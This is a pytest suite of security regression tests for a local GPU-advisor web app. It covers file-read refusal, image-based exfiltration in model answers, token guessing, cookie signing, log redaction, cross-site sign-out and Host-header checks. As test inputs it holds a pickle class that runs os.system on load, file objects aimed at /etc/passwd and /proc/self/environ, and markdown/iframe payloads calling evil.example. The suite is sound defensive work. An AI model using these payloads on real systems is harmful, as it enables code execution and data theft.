"""The findings of the black-box security test, each closed and kept closed, over real HTTP on 127.0.0.1.

1. no file path from a client reaches a file read (the UI's own API, every function);
2. every HTML page forbids remote images, and a model's answer cannot load one;
3. failed authentication counts toward the limit on every route; weak tokens refuse to start;
   cookies are keyed by a server-side secret and live at most 12 h;
4. the understanding cache is signed: a file planted in the data directory never runs;
5. logs carry no query strings and no upstream error bodies;
6. sign-out is a same-origin POST that ends the session on the server;
8. generic errors, configured root, no 0.0.0.0/0 proxy, MCP Host check, Sec-Fetch-Site, read-only stores.
"""

from __future__ import annotations

import json
import logging
import os
import pickle
import re
import stat
import subprocess
import sys

import httpx
import pytest
from pydantic import SecretStr

from advisor.config import ConfigError, Settings
from advisor.interfaces.server import create_app
from advisor.interfaces.sessions import COOKIE, SessionSigner
from advisor.server_secret import FILE_NAME, server_secret
from tests.live_server import offline_settings, running_server

TOKEN = "sec-tok-4f9a2c7e1b8d3f6a0c5e9b2d7f1a4c8e"
SECRET_MARK = "Sup3rSecretValue-9d8c7b6a5f4e"
FILE_OBJECT = {"path": "/etc/passwd", "url": None, "orig_name": "passwd", "meta": {"_type": "gradio.FileData"}}
PASSWD_LINE = re.compile(r"root:.*:0:0:")


@pytest.fixture(scope="module")
def open_site(offline_advisor, tmp_path_factory):
    settings = offline_settings(tmp_path_factory.mktemp("open-site"))
    with running_server(create_app(settings, offline_advisor)) as url, httpx.Client(base_url=url, timeout=60, trust_env=False) as client:
        yield client


def ui_functions(client: httpx.Client) -> list[tuple[int, int]]:
    """(fn_index, number of inputs) of every function the UI's config declares."""
    config = client.get("/config").json()
    return [(index, len(dep.get("inputs", []))) for index, dep in enumerate(config["dependencies"])]


def assert_files_refused(response: httpx.Response) -> None:
    assert response.status_code in (400, 403), (response.request.url, response.status_code, response.text[:200])
    error = response.json()["error"]
    assert error["code"] == "files_refused" and re.search(r"[\u4e00-\u9fff]", error["zh"]) and response.headers["x-request-id"]
    assert not PASSWD_LINE.search(response.text)


# --- 1. files ------------------------------------------------------------------------------------
def test_a_file_object_sent_to_any_ui_function_is_refused_and_nothing_is_served(open_site):
    functions = ui_functions(open_site)
    assert len(functions) > 5
    for index, inputs in functions:
        for position in range(max(inputs, 1)):
            data = [None] * max(inputs, 1)
            data[position] = [{"role": "user", "content": FILE_OBJECT}] if position % 2 else FILE_OBJECT
            body = {"data": data, "fn_index": index, "session_hash": f"attacker{index}x{position}", "event_data": None, "trigger_id": None}
            assert_files_refused(open_site.post("/gradio_api/queue/join", json=body))
            assert_files_refused(open_site.post(f"/gradio_api/run/predict?fn={index}", json=body))
    # Nothing was copied anywhere that could then be fetched, and the fetch route itself is closed.
    for path in ("/gradio_api/file=/etc/passwd", "/gradio_api/file=/proc/self/environ", "/file=/etc/passwd"):
        assert_files_refused(open_site.get(path))
    assert_files_refused(open_site.post("/gradio_api/upload", files={"files": ("x.txt", b"hello")}))


def test_the_chat_function_takes_no_chatbot_history_from_the_client(open_site):
    config = open_site.get("/config").json()
    types = {c["id"]: c["type"] for c in config["components"]}
    for dep in config["dependencies"]:
        assert all(types.get(i) != "chatbot" for i in dep.get("inputs", [])), dep.get("api_name")
    chat = [d for d in config["dependencies"] if d.get("api_name") == "chat"]
    assert chat and "chatbot" in {types.get(i) for i in chat[0]["outputs"]}


def test_gradio_path_checks_are_on_when_mounted(offline_advisor, tmp_path):
    from gradio.context import LocalContext
    from gradio.exceptions import InvalidPathError
    from gradio.processing_utils import _check_allowed

    app = create_app(offline_settings(tmp_path), offline_advisor)
    blocks = next(route.app.get_blocks() for route in app.routes if hasattr(getattr(route, "app", None), "get_blocks"))
    assert blocks.has_launched and not blocks.show_error
    assert str(tmp_path.resolve()) in blocks.blocked_paths and "/proc" in blocks.blocked_paths
    token = LocalContext.blocks.set(blocks)
    try:
        for path in ("/etc/passwd", "/proc/self/environ", str(tmp_path / FILE_NAME)):
            with pytest.raises(InvalidPathError):
                _check_allowed(path, check_in_upload_folder=False)
    finally:
        LocalContext.blocks.reset(token)


# --- 2. remote content ---------------------------------------------------------------------------
def test_every_html_page_forbids_remote_images_and_scripts(open_site):
    for path in ("/", "/login", "/logout", "/docs", "/embed"):
        response = open_site.get(path, headers={"Accept": "text/html"}, follow_redirects=True)
        policy = response.headers.get("content-security-policy", "")
        assert "img-src 'self' data:" in policy and "http" not in policy.replace("frame-ancestors", ""), (path, policy)
        assert "default-src" in policy, path


def test_a_models_answer_cannot_make_the_browser_fetch_another_host():
    from advisor.llm.text_tools import clean_answer

    answer = clean_answer('Result ![chart](https://evil.example/p.png?c=chat-text) <img src="https://evil.example/i?x=1"> '
                          '<iframe src="https://evil.example/f"></iframe> see [docs](https://docs.nvidia.com).')  # fmt: skip
    assert "![" not in answer and "<img" not in answer and "<iframe" not in answer
    assert "[chart](https://evil.example/p.png?c=chat-text)" in answer and "[docs](https://docs.nvidia.com)" in answer


# --- 3. guessing ---------------------------------------------------------------------------------
def test_wrong_tokens_on_page_routes_are_counted_and_then_every_guess_is_refused(offline_advisor, tmp_path):
    settings = offline_settings(tmp_path, api_token=SecretStr(TOKEN), rate_limit_per_minute=6)
    with running_server(create_app(settings, offline_advisor)) as url, httpx.Client(base_url=url, timeout=60, trust_env=False) as client:
        statuses = [client.get(path, headers={"Authorization": f"Bearer wrong-{i}"}).status_code
                    for i, path in enumerate(["/openapi.json", "/config", "/theme.css", "/", "/gradio_api/heartbeat/x", "/config"] * 2)]  # fmt: skip
        assert statuses[:6] == [401] * 6 and set(statuses[6:]) == {429}
        # Over the limit, even the right token learns nothing until the window has passed.
        assert client.get("/config", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 429


@pytest.mark.parametrize("token", ["abc", "changeme" * 5, "1234567890" * 4, "x" * 64])
def test_a_weak_token_refuses_to_start_in_both_languages(token):
    with pytest.raises(ConfigError) as caught:
        Settings.from_env({"ADVISOR_API_TOKEN": token})
    assert "ADVISOR_API_TOKEN" in caught.value.en and "secrets.token_urlsafe" in caught.value.en
    assert "ADVISOR_API_TOKEN" in caught.value.zh and "至少" in caught.value.zh


def test_the_server_command_refuses_a_weak_token_before_starting(tmp_path):
    env = {**os.environ, "ADVISOR_API_TOKEN": "abc", "ADVISOR_DATA_DIR": str(tmp_path), "ADVISOR_PORT": "1"}
    done = subprocess.run([sys.executable, "-m", "advisor.cli", "serve"], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "ADVISOR_API_TOKEN" in done.stderr and "配置错误" in done.stderr
    assert "Traceback" not in done.stderr


def test_the_server_secret_is_private_and_keys_the_cookies(tmp_path):
    secret = server_secret(tmp_path)
    mode = stat.S_IMODE((tmp_path / FILE_NAME).stat().st_mode)
    assert mode == 0o600 and server_secret(tmp_path) == secret and len(secret) >= 32
    cookie = SessionSigner(TOKEN, secret).issue()
    assert TOKEN not in cookie and SessionSigner(TOKEN, secret).valid(cookie)
    assert not SessionSigner(TOKEN, server_secret(tmp_path / "other")).valid(cookie)


def test_a_cookie_lives_at_most_12_hours_whatever_it_claims():
    now = [1_000_000.0]
    signer = SessionSigner(TOKEN, b"k" * 32, clock=lambda: now[0])
    cookie = signer.issue()
    now[0] += 11.9 * 3600
    assert signer.valid(cookie)
    now[0] += 0.2 * 3600
    assert not signer.valid(cookie)
    now[0] = 0.0  # a cookie "from the future" (a clock pushed back) is no better
    assert not signer.valid(cookie)


# --- 4. the cache --------------------------------------------------------------------------------
class Planted:
    def __reduce__(self):
        return (os.system, (f"touch {PLANTED_MARK}",))


PLANTED_MARK = "/tmp/gpu-advisor-planted-pickle-ran"


def test_a_planted_cache_file_never_runs_and_is_replaced(tmp_path, caplog):
    from advisor.nlu import training
    from knowledge.catalog import load_catalog

    if os.path.exists(PLANTED_MARK):
        os.remove(PLANTED_MARK)
    fingerprint = training.data_fingerprint()
    payload = pickle.dumps(Planted())
    for name in (f"understanding-{fingerprint}.signed", f"understanding-{fingerprint}.pkl"):
        (tmp_path / name).write_bytes(training.MAGIC + b"\0" * training.SIGNATURE_BYTES + payload if name.endswith(".signed") else payload)
    caplog.set_level(logging.WARNING)
    model = training.load_or_train(load_catalog(), tmp_path)
    assert model is not None and not os.path.exists(PLANTED_MARK)
    assert any("not signed by this installation" in r.getMessage() for r in caplog.records)
    rewritten = (tmp_path / f"understanding-{fingerprint}.signed").read_bytes()
    assert rewritten.startswith(training.MAGIC) and payload not in rewritten


# --- 5. logs -------------------------------------------------------------------------------------
def test_no_secret_a_client_sends_reaches_the_log(offline_advisor, tmp_path, caplog):
    settings = offline_settings(tmp_path, api_token=SecretStr(TOKEN), embed_key=SecretStr(SECRET_MARK + "-embed"))
    caplog.set_level(logging.DEBUG)
    access_logger = logging.getLogger("advisor.access")
    with running_server(create_app(settings, offline_advisor)) as url, httpx.Client(base_url=url, timeout=60, trust_env=False) as client:
        access_logger.addHandler(caplog.handler)  # the server's configuration stops it propagating
        client.get(f"/?token={SECRET_MARK}")
        client.get(f"/embed?key={SECRET_MARK}")
        client.get(f"/api/models?token={SECRET_MARK}", headers={"Authorization": f"Bearer {SECRET_MARK}"})
        client.get("/config", headers={"Cookie": f"{COOKIE}={SECRET_MARK}", "X-Embed-Key": SECRET_MARK})
        client.post("/login", data={"token": SECRET_MARK, "next": f"/?k={SECRET_MARK}"})
        client.post("/api/embed/chat", json={"message": SECRET_MARK}, headers={"X-Embed-Key": SECRET_MARK})
        access_logger.removeHandler(caplog.handler)
    server_side = [r for r in caplog.records if not r.name.startswith(("httpx", "httpcore"))]  # the test's own client logs its URLs
    access = [r for r in server_side if r.name == "advisor.access"]
    assert access, "the access log wrote nothing"
    assert [f"{r.name}: {r.getMessage()[:300]}" for r in server_side if SECRET_MARK in r.getMessage()] == []
    assert any('"GET /embed HTTP' in r.getMessage() for r in access)
    # uvicorn writes its own access line (query included) only to a logger with a handler: it has none.
    assert not logging.getLogger("uvicorn.access").handlers


def test_an_endpoints_error_body_is_not_logged(caplog, no_proxy):
    from advisor.deps import build_advisor
    from advisor.testing import ScriptedOpenAIServer, fail

    leaked = f"https://user:{SECRET_MARK}@models.example/v1 rejected key sk-{SECRET_MARK}"
    caplog.set_level(logging.DEBUG)
    with ScriptedOpenAIServer([fail(400, error=leaked), fail(500, error=leaked)]) as server:
        env = {"ADVISOR_LLM_BASE_URL": server.base_url, "ADVISOR_LLM_MODEL": "scripted", "ADVISOR_LLM_API_KEY": "k-1234",
               "ADVISOR_LLM_TIMEOUT": "2", "ADVISOR_LLM_MAX_RETRIES": "0"}  # fmt: skip
        response = build_advisor(Settings.from_env(env)).answer("How much memory does Qwen2.5-7B need?")
    assert response.mode == "offline"
    assert all(SECRET_MARK not in r.getMessage() for r in caplog.records if not r.name.startswith(("httpx", "httpcore")))
    assert any("HTTP" in r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING)


# --- 6. sign-out ---------------------------------------------------------------------------------
def test_another_site_cannot_sign_a_browser_out_and_the_button_does(offline_advisor, tmp_path):
    settings = offline_settings(tmp_path, api_token=SecretStr(TOKEN))
    with running_server(create_app(settings, offline_advisor)) as url, httpx.Client(base_url=url, timeout=60, trust_env=False) as browser:
        assert browser.post("/login", data={"token": TOKEN, "next": "/"}).status_code == 303
        page = browser.get("/logout")
        assert page.status_code == 200 and 'method="post"' in page.text and "退出登录" in page.text and "Sign out" in page.text
        for forged in ({"Origin": "https://evil.example"}, {"Sec-Fetch-Site": "cross-site"}):
            refused = browser.post("/logout", headers=forged)
            assert refused.status_code == 403 and "其他网站" in refused.text
            assert browser.get("/api/models").status_code == 200
        assert browser.post("/logout", headers={"Origin": url, "Sec-Fetch-Site": "same-origin"}).status_code == 303
        assert browser.get("/api/models").status_code == 401


# --- 8. the rest ---------------------------------------------------------------------------------
def test_cookie_posts_from_another_site_are_refused_by_sec_fetch_site_alone(offline_advisor, tmp_path):
    settings = offline_settings(tmp_path, api_token=SecretStr(TOKEN))
    with running_server(create_app(settings, offline_advisor)) as url, httpx.Client(base_url=url, timeout=60, trust_env=False) as browser:
        browser.post("/login", data={"token": TOKEN, "next": "/"})
        refused = browser.post("/api/chat", json={"message": "hi"}, headers={"Sec-Fetch-Site": "cross-site"})
        assert refused.status_code == 403 and refused.json()["error"]["code"] == "cross_site_request"


def test_the_ui_root_comes_from_configuration_not_from_the_request(offline_advisor, tmp_path):
    settings = offline_settings(tmp_path, public_url="https://advisor.example.com")
    with running_server(create_app(settings, offline_advisor)) as url, httpx.Client(base_url=url, timeout=60, trust_env=False) as client:
        config = client.get("/config", headers={"Host": "evil.example", "X-Forwarded-Host": "evil2.example"}).json()
        assert config["root"] == "https://advisor.example.com" and "evil" not in json.dumps(config)


def test_an_untrusted_client_cannot_steer_the_root_with_forwarding_headers(open_site):
    config = open_site.get("/config", headers={"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"}).json()
    assert "evil" not in config["root"]


@pytest.mark.parametrize("proxies", ["0.0.0.0/0", "::/0", "10.0.0.1,0.0.0.0/0"])
def test_trusting_every_address_as_a_proxy_is_refused(proxies):
    with pytest.raises(ConfigError) as caught:
        Settings.from_env({"ADVISOR_TRUSTED_PROXIES": proxies})
    assert "ADVISOR_TRUSTED_PROXIES" in caught.value.en and "反向代理" in caught.value.zh


def test_mcp_over_http_refuses_a_foreign_host_header(tmp_path):
    from starlette.testclient import TestClient

    from advisor.interfaces.mcp_server import http_app

    app = http_app(offline_settings(tmp_path, api_token=SecretStr(TOKEN)))
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    headers = {"Authorization": f"Bearer {TOKEN}", "Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
    with TestClient(app, base_url="http://127.0.0.1:7860") as client:
        assert client.post("/mcp", json=body, headers=headers).status_code == 200
        rebound = client.post("/mcp", json=body, headers={**headers, "Host": "attacker.example"})
        assert rebound.status_code in (400, 421)


def test_a_store_this_process_may_not_write_is_reported_as_such_not_wiped(tmp_path, monkeypatch):
    from advisor.retrieval import store as store_module

    path = tmp_path / "chroma"
    path.mkdir()
    (path / "chroma.sqlite3").write_bytes(b"kept")
    store = store_module.VectorStore(path)

    def refuse():
        raise PermissionError(13, "Permission denied", str(path / "chroma.sqlite3"))

    monkeypatch.setattr(store, "_connect", refuse)
    with pytest.raises(store_module.StoreUnavailable, match="permission denied"):
        store.client(repair=True)
    assert (path / "chroma.sqlite3").read_bytes() == b"kept"
